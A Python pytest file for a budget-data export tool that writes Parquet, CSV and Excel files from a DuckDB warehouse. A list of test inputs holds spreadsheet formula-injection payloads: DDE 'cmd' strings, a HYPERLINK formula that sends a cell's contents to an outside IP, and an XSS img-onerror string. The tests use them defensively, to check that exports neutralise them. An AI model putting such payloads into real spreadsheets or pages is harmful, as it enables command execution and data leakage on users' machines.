"""What is handed out: typed, whole, the same each time, and nothing in it that a spreadsheet would run."""

from __future__ import annotations

import hashlib
import json
import shutil
import zipfile
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path

import duckdb
import pytest
from python_calamine import CalamineWorkbook

from ingest.cli import main as yusuan
from ingest.export.failure import ExportFailed
from ingest.export.run import export
from ingest.export.workbook import sheet_name

HOSTILE = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+9)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    '=HYPERLINK("http://198.51.100.7/?"&A1,"更多")',
    "<img src=x onerror=alert(1)>",
    "https://198.51.100.7/",
    "a\x0bc",
    'say "quoted", twice',
    "很长的项目名称" * 6000,
]
HARMLESS_NUMBER = "-1,234.50"


def silent(_: str) -> None:
    """Nothing is told."""


@pytest.fixture(scope="module")
def exported(warehouse: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("exported") / "out"
    assert export(warehouse, folder, ("parquet", "csv", "xlsx"), silent).keys() == {"parquet", "csv", "xlsx"}
    return folder


@pytest.fixture(scope="module")
def hostile(warehouse: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An export of a warehouse whose projects a stranger has named."""
    folder = tmp_path_factory.mktemp("hostile")
    copy = folder / "warehouse.duckdb"
    shutil.copyfile(warehouse, copy)
    with duckdb.connect(str(copy)) as connection:
        ids = [
            line
            for (line,) in connection.execute(
                "select line_id from marts.fct_expenditure_by_project order by line_id limit ?",
                [len(HOSTILE) + 1],
            ).fetchall()
        ]
        for line, name in zip(ids, [*HOSTILE, HARMLESS_NUMBER], strict=True):
            connection.execute(
                "update marts.fct_expenditure_by_project set project_name = ? where line_id = ?", [name, line]
            )
        # The reports are views; one whose columns quote and whose text is long.
        connection.execute('create table reports."怪[名]:*?/表" as select ? as "列\'"";--"', [HOSTILE[0]])
    export(copy, folder / "out", ("parquet", "csv", "xlsx"), silent)
    return folder / "out"


def rows_of_sheets(folder: Path) -> Iterator[tuple[str, list[list[object]]]]:
    book = CalamineWorkbook.from_path(str(folder / "xlsx" / "yusuan.xlsx"))
    for name in book.sheet_names:
        yield name, book.get_sheet_by_name(name).to_python()


def test_the_same_warehouse_gives_the_same_bytes(warehouse: Path, exported: Path, tmp_path: Path) -> None:
    export(warehouse, tmp_path / "again", ("parquet", "csv", "xlsx"), silent)
    assert (tmp_path / "again" / "SHA256SUMS").read_text() == (exported / "SHA256SUMS").read_text()


def test_the_sums_are_those_of_the_files(exported: Path) -> None:
    sums = dict(
        reversed(line.split("  ", 1))
        for line in (exported / "SHA256SUMS").read_text(encoding="utf-8").splitlines()
    )
    files = {path.relative_to(exported).as_posix() for path in exported.rglob("*") if path.is_file()}
    assert sums.keys() == files - {"SHA256SUMS"}
    for name, digest in sums.items():
        assert hashlib.sha256((exported / name).read_bytes()).hexdigest() == digest


def test_every_public_table_is_there_whole_in_every_form(warehouse: Path, exported: Path) -> None:
    with duckdb.connect(str(warehouse), read_only=True) as connection:
        tables = connection.execute(
            "select table_schema, table_name from information_schema.tables"
            " where table_schema in ('marts', 'audit', 'reports') and (table_schema, table_name) not in"
            " (('audit', 'build'), ('audit', 'changes'))"
        ).fetchall()
        counts = {
            (schema, name): connection.execute(f'select count(*) from {schema}."{name}"').fetchone()
            for schema, name in tables
        }
    assert counts
    for (schema, name), count in counts.items():
        parquet = exported / "parquet" / schema / name / "data.parquet"
        assert duckdb.execute("select count(*) from read_parquet(?)", [str(parquet)]).fetchone() == count
        csv = exported / "csv" / f"{schema}.{name}.csv"
        assert (
            duckdb.execute("select count(*) from read_csv(?, all_varchar = true)", [str(csv)]).fetchone()
            == count
        )
        assert csv.read_bytes().startswith(b"\xef\xbb\xbf")
    sheets = dict(rows_of_sheets(exported))
    reports = {name: count for (schema, name), count in counts.items() if schema == "reports"}
    assert set(sheets) == {"目录", *reports}
    for name, (count,) in reports.items():
        assert len(sheets[name]) == count + 1, name


def test_money_stays_a_decimal_and_a_number(warehouse: Path, exported: Path) -> None:
    parquet = exported / "parquet" / "marts" / "budget_lines" / "data.parquet"
    (told,) = duckdb.execute(
        "select type from (describe select amount_yuan as a from read_parquet(?)) t(name, type, n, k, d, e)",
        [str(parquet)],
    ).fetchall()
    assert told == ("DECIMAL(20,2)",)
    with duckdb.connect(str(warehouse), read_only=True) as connection:
        (total,) = connection.execute('select sum("金额元") from reports."预算明细"').fetchone() or (None,)
    head, *rows = dict(rows_of_sheets(exported))["预算明细"]
    money = [row[head.index("金额元")] for row in rows]
    assert all(isinstance(value, float | int) for value in money)
    assert sum(Decimal(str(value)) for value in money) == total
    codes = [row[head.index("功能科目编码")] for row in rows]
    assert all(isinstance(code, str) for code in codes), "a code is no number"


def test_no_cell_of_a_csv_is_run(hostile: Path) -> None:
    path = hostile / "csv" / "marts.fct_expenditure_by_project.csv"
    names = {
        name
        for (name,) in duckdb.execute(
            "select project_name from read_csv(?, all_varchar = true)", [str(path)]
        ).fetchall()
    }
    for name in HOSTILE:
        runs = name.lstrip(" ")[:1] in "=+-@\t\r＝"
        assert ("'" + name if runs else name) in names
        assert not (runs and name in names)
    assert HARMLESS_NUMBER in names


def test_no_cell_of_the_workbook_is_run(hostile: Path) -> None:
    with zipfile.ZipFile(hostile / "xlsx" / "yusuan.xlsx") as archive:
        for member in archive.namelist():
            text = archive.read(member)
            assert b"<f>" not in text, f"{member} holds a formula"
            assert b"<hyperlink" not in text, f"{member} holds a link"
            assert b"TargetMode" not in text, f"{member} leads outside"
    sheets = dict(rows_of_sheets(hostile))
    head, *rows = sheets["项目支出"]
    shown = {str(row[head.index("项目名称")]) for row in rows}
    for name in HOSTILE[:4]:
        assert name in shown, "a text is shown as it is, as a text"
    (cut,) = [text for text in shown if text.startswith("很长的项目名称很长")]
    assert len(cut) == 32_767
    assert cut.endswith("（全文见 CSV 或 Parquet）")
    assert any("已截断" in str(row[2]) for row in sheets["目录"] if row[0] == "项目支出")
    assert "怪_名_____表" in sheets


def test_parquet_keeps_what_is_printed(hostile: Path) -> None:
    path = hostile / "parquet" / "marts" / "fct_expenditure_by_project" / "data.parquet"
    names = {
        name for (name,) in duckdb.execute("select project_name from read_parquet(?)", [str(path)]).fetchall()
    }
    assert set(HOSTILE) <= names


def test_the_package_describes_every_file(exported: Path) -> None:
    package = json.loads((exported / "datapackage.json").read_text(encoding="utf-8"))
    by_name = {resource["name"]: resource for resource in package["resources"]}
    for resource in package["resources"]:
        path = exported / resource["path"]
        assert path.is_file()
        if resource["format"] == "csv":
            with path.open(encoding="utf-8-sig") as file:
                head = file.readline().rstrip("\r\n").split(",")
            assert head == [field["name"] for field in resource["schema"]["fields"]]
        for key in resource["schema"].get("foreignKeys", []):
            assert key["reference"]["resource"] in by_name
    lines = by_name["marts.budget_lines"]["schema"]
    assert lines["primaryKey"] == ["line_id"]
    (amount,) = [field for field in lines["fields"] if field["name"] == "amount_yuan"]
    assert amount["type"] == "number"
    assert amount["description"]
    assert amount["description_zh"]
    assert package["model"]["measures"]["amount"]["currency"] == "CNY"
    for dimension in package["model"]["dimensions"].values():
        assert set(dimension["primaryKey"]) <= {field["name"] for field in lines["fields"]}


def test_only_the_formats_asked_for(warehouse: Path, tmp_path: Path) -> None:
    assert (
        yusuan(["export", "--to", str(tmp_path / "out"), "--format", "csv", "--warehouse", str(warehouse)])
        == 0
    )
    assert {path.name for path in (tmp_path / "out").iterdir()} == {"csv", "datapackage.json", "SHA256SUMS"}


def test_an_earlier_export_is_replaced_and_anything_else_is_left_alone(
    warehouse: Path, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    export(warehouse, out, ("csv",), silent)
    export(warehouse, out, ("parquet",), silent)
    assert not (out / "csv").exists(), "replaced as a whole"
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / "letter.txt").write_text("dear")
    with pytest.raises(ExportFailed, match="holds something that is no export"):
        export(warehouse, tmp_path / "mine", ("csv",), silent)
    assert {path.name for path in tmp_path.iterdir()} == {"out", "mine"}, "nothing is left beside"


def test_what_is_no_warehouse_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    empty = tmp_path / "empty.duckdb"
    duckdb.connect(str(empty)).close()
    assert yusuan(["export", "--to", str(tmp_path / "out"), "--warehouse", str(empty)]) == 1
    assert "no warehouse of ours" in capsys.readouterr().err
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("asked", ["pdf", "", "csv,pdf"])
def test_a_format_that_is_none_is_named(
    asked: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit):
        yusuan(["export", "--to", str(tmp_path), "--format", asked])
    assert "choose among parquet, csv, xlsx" in capsys.readouterr().err


def test_names_of_sheets_are_short_plain_and_different() -> None:
    long = "很" * 40
    assert sheet_name("a/b:c", set()) == "a_b_c"
    assert len(sheet_name(long, set())) == 31
    assert sheet_name(long, {long[:31]}) == "很" * 29 + "~2"
